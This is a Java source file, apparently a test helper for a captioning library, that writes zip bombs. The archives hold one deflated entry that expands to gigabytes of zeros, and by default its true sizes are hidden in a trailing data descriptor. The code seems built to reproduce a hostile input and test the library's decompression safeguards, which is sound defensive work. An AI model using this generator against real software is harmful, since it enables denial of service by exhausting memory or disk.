package io.caption4j.core.internal;

import java.io.ByteArrayOutputStream;
import java.io.IOException;
import java.io.OutputStream;
import java.nio.ByteBuffer;
import java.nio.ByteOrder;
import java.nio.charset.StandardCharsets;
import java.nio.file.Files;
import java.nio.file.Path;
import java.util.Map;
import java.util.zip.CRC32;
import java.util.zip.Deflater;

/**
 * Writes a zip bomb in well under a second: entries given whole, then one entry of {@code zeros} zero bytes whose
 * deflate stream is one compressed MiB of zeros repeated (a 3 GiB entry takes 3 MB), as the hostile model did.
 */
public final class ZipBomb {
    private ZipBomb() {
    }

    /** The bomb entry's sizes come after its data (as ZipOutputStream writes them), so a reader learns them too late. */
    public static void write(Path file, Map<String, byte[]> before, String name, long zeros) throws IOException {
        write(file, before, name, zeros, false);
    }

    /** With declare, the bomb's local header states its inflated size. */
    public static void write(Path file, Map<String, byte[]> before, String name, long zeros, boolean declare)
            throws IOException {
        try (OutputStream out = Files.newOutputStream(file)) {
            for (Map.Entry<String, byte[]> e : before.entrySet()) {
                byte[] data = e.getValue();
                CRC32 crc = new CRC32();
                crc.update(data);
                Deflater d = new Deflater(Deflater.DEFAULT_COMPRESSION, true);
                d.setInput(data);
                d.finish();
                ByteArrayOutputStream c = new ByteArrayOutputStream();
                byte[] buf = new byte[1 << 16];
                while (!d.finished()) {
                    c.write(buf, 0, d.deflate(buf));
                }
                d.end();
                entry(out, e.getKey(), crc.getValue(), c.toByteArray(), data.length);
            }
            byte[] mib = new byte[1 << 20];
            Deflater d = new Deflater(Deflater.BEST_COMPRESSION, true);
            d.setInput(mib);
            byte[] buf = new byte[1 << 16];
            int n = d.deflate(buf, 0, buf.length, Deflater.SYNC_FLUSH);
            d.end();
            long chunks = zeros >> 20;
            CRC32 crc = new CRC32();
            for (long i = 0; i < chunks; i++) {
                crc.update(mib);
            }
            byte[] last = {0x03, 0x00};                  // a final empty fixed-Huffman block
            long compressed = chunks * n + last.length;
            if (declare) {
                entryHeader(out, name, crc.getValue(), compressed, chunks << 20, 0);
            } else {
                entryHeader(out, name, 0, 0, 0, 0x08);
            }
            for (long i = 0; i < chunks; i++) {
                out.write(buf, 0, n);
            }
            out.write(last);
            if (!declare) {
                ByteBuffer dd = ByteBuffer.allocate(16).order(ByteOrder.LITTLE_ENDIAN);
                dd.putInt(0x08074b50).putInt((int) crc.getValue()).putInt((int) compressed).putInt((int) (chunks << 20));
                out.write(dd.array());
            }
        }
    }

    private static void entry(OutputStream out, String name, long crc, byte[] compressed, long size)
            throws IOException {
        entryHeader(out, name, crc, compressed.length, size, 0);
        out.write(compressed);
    }

    /** A local file header (deflated, sizes given); ZipInputStream needs nothing else. */
    private static void entryHeader(OutputStream out, String name, long crc, long compressed, long size, int flags)
            throws IOException {
        byte[] n = name.getBytes(StandardCharsets.UTF_8);
        ByteBuffer h = ByteBuffer.allocate(30 + n.length).order(ByteOrder.LITTLE_ENDIAN);
        h.putInt(0x04034b50).putShort((short) 20).putShort((short) flags).putShort((short) 8).putShort((short) 0)
                .putShort((short) 0x21).putInt((int) crc).putInt((int) compressed).putInt((int) size)
                .putShort((short) n.length).putShort((short) 0).put(n);
        out.write(h.array());
    }
}
